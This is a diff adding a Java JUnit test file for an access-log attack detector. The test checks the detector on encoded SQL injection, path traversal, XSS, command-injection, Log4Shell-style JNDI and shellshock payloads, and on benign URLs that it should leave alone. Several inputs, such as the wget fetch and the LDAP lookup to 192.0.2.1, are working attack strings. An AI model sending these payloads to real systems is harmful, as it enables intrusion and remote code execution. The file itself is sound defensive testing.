@@ -1,0 +1,151 @@
+package io.apilog.security;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import io.apilog.request.AccessRecord;
+import io.apilog.request.Endpoint;
+import io.apilog.request.Rule;
+import java.nio.charset.StandardCharsets;
+import java.util.ArrayList;
+import java.util.Arrays;
+import java.util.List;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.CsvSource;
+import org.junit.jupiter.params.provider.ValueSource;
+
+/** What attacks are made of is found however it is written, and is not found where people and programs mean no harm. */
+class AttackSearchTest {
+    private static final Endpoint ITEMS = new Endpoint(3, "/items", Rule.ROUTE);
+
+    private final AttackSearch search = new AttackSearch();
+    private final AccessRecord record = new AccessRecord();
+
+    private List<String> patterns(long found) {
+        int patterns = AttackWords.patterns(found);
+        return Arrays.stream(AttackPattern.values())
+                .filter(pattern -> (patterns & pattern.bit()) != 0)
+                .map(AttackPattern::label)
+                .toList();
+    }
+
+    private long answered(String target) {
+        byte[] bytes = target.getBytes(StandardCharsets.UTF_8);
+        record.clear();
+        record.target.set(bytes, 0, bytes.length);
+        record.status = 200;
+        return search.in(record, ITEMS);
+    }
+
+    @ParameterizedTest
+    @CsvSource(
+            delimiter = '|',
+            quoteCharacter = '`',
+            value = {
+                "/items?id=1%20UNION%20ALL%20SELECT%20null,null | sql_injection",
+                "/items?id=1+union/**/select+1 | sql_injection",
+                "/items?id=1%2527%2520or%25201=1--%2520 | sql_injection",
+                "/items?f=..%2f..%2f..%2fetc%2fpasswd | path_traversal",
+                "/items?f=%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afboot.ini | path_traversal",
+                "/items?f=....//....//....//etc/passwd | path_traversal",
+                "/items/%252e%252e%252f%252e%252e%252fwindows/win.ini | path_traversal",
+                "/items?f=..\\..\\windows\\system32\\drivers | path_traversal",
+                "/items?q=%3Cscript%3Ealert(1)%3C/script%3E | xss",
+                "/items?q=%22%20onmouseover=%22x | xss",
+                "/items?c=;wget%20http://192.0.2.1/x | command_injection",
+                "/items?class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc%7Di | command_injection",
+                "/items?x=$%7Bjndi:ldap://192.0.2.1/a%7D | jndi",
+                "/items?x=%24%7b%24%7blower:j%7dndi | jndi",
+                "/.env | scanner",
+                "/items/.git/config | scanner",
+            })
+    void an_attack_is_found_in_a_target_that_is_answered(String target, String pattern) {
+        assertThat(patterns(answered(target))).containsExactly(pattern);
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "/items/17?fields=id,name&sort=-created_at",
+                "/%D8%B5%D9%86%D8%AF%D9%84%DB%8C?q=%D9%82%DB%8C%D9%85%D8%AA+%D9%85%D8%B1%D8%AF%D8%A7%D9%86%D9%87",
+                "/%E4%BA%A7%E5%93%81/%E8%AF%A6%E6%83%85?q=%E7%BA%A2%E8%89%B2&page=2",
+                "/items?name=%C0%B4%B5%E7%C4%D4",
+                "/items?$filter=contains(Name,'a')%20or%20substringof('b',Name)&$orderby=Name%20desc",
+                "/items?filter=%7B%22and%22:%5B%7B%22a%22:1%7D,%7B%22b%22:%5B1,2%5D%7D%5D%7D",
+                "/items?q=select+a+union+rep+or+a+script+writer",
+                "/items?redirect=https%3A%2F%2Fexample.com%2Fhome%3Fa%3Db",
+                "/.well-known/openid-configuration",
+                "/items?date=2026-11-29T10:00:00%2B01:00&size=10%25",
+                "/javascript:void(0)",
+                "/a/../b.css",
+            })
+    void what_is_ordinary_is_left_alone(String target) {
+        assertThat(patterns(answered(target))).isEmpty();
+    }
+
+    @Test
+    void a_word_of_plain_letters_is_found_where_it_was_refused_or_nothing_is_there() {
+        byte[] bytes = "/items?a=information_schema.tables".getBytes(StandardCharsets.UTF_8);
+        record.target.set(bytes, 0, bytes.length);
+        record.status = 404;
+        assertThat(patterns(search.in(record, Endpoint.UNMATCHED))).containsExactly("sql_injection");
+    }
+
+    @Test
+    void headers_are_looked_through_too() {
+        record.status = 200;
+        byte[] agent = "() { :;}; /bin/ping -c 1 192.0.2.1".getBytes(StandardCharsets.UTF_8);
+        record.userAgent.set(agent, 0, agent.length);
+        byte[] referer = "https://example.com/?x=%24%7Bjndi%3Aldap%3A//192.0.2.1%7D".getBytes(StandardCharsets.UTF_8);
+        record.referer.set(referer, 0, referer.length);
+        assertThat(patterns(search.in(record, ITEMS))).containsExactly("jndi", "shellshock");
+        record.referer.clear();
+        assertThat(patterns(search.in(record, ITEMS))).containsExactly("shellshock");
+    }
+
+    @Test
+    void a_handshake_of_tls_is_found_where_no_request_is() {
+        byte[] hello = {0x16, 3, 1, 2, 0, 1};
+        record.malformed.set(hello, 0, hello.length);
+        record.status = 400;
+        assertThat(patterns(search.in(record, Endpoint.MALFORMED))).containsExactly("tls_on_http");
+    }
+
+    @Test
+    void a_target_of_64_KiB_is_looked_through_to_its_end() {
+        for (int before : new int[] {10, 16_370, 16_384 - 30, 40_000, 65_400}) {
+            assertThat(patterns(answered("/items?q=" + "a".repeat(before) + "%2527%2520union%2520select%25201")))
+                    .as("behind %s bytes", before)
+                    .containsExactly("sql_injection");
+        }
+    }
+
+    @Test
+    void prose_about_attacks_is_a_hint_or_likely_but_never_certain() {
+        for (String target : List.of(
+                "/search?q=how+to+chmod+777+a+folder",
+                "/search?q=sql+union+select+tutorial",
+                "/search?q=what+is+information_schema",
+                "/search?q=rm+-rf+undo")) {
+            assertThat(AttackWords.surest(answered(target))).as(target).isLessThan(Grade.CERTAIN.ordinal());
+        }
+    }
+
+    /** A word that undoing escapes would change could never be found. */
+    @Test
+    void every_word_is_as_it_is_once_escapes_are_undone() {
+        EscapeUndoing undoing = new EscapeUndoing();
+        List<String> changed = new ArrayList<>();
+        for (String line : AttackWords.lines()) {
+            if (line.startsWith("\"")) {
+                byte[] word = line.substring(1, line.length() - 1).getBytes(StandardCharsets.UTF_8);
+                undoing.undo(word, 0, word.length, false);
+                String undone = new String(undoing.bytes(), 0, undoing.length(), StandardCharsets.UTF_8);
+                if (!undone.equals(line.substring(1, line.length() - 1))) {
+                    changed.add(line);
+                }
+            }
+        }
+        assertThat(changed).isEmpty();
+    }
+}
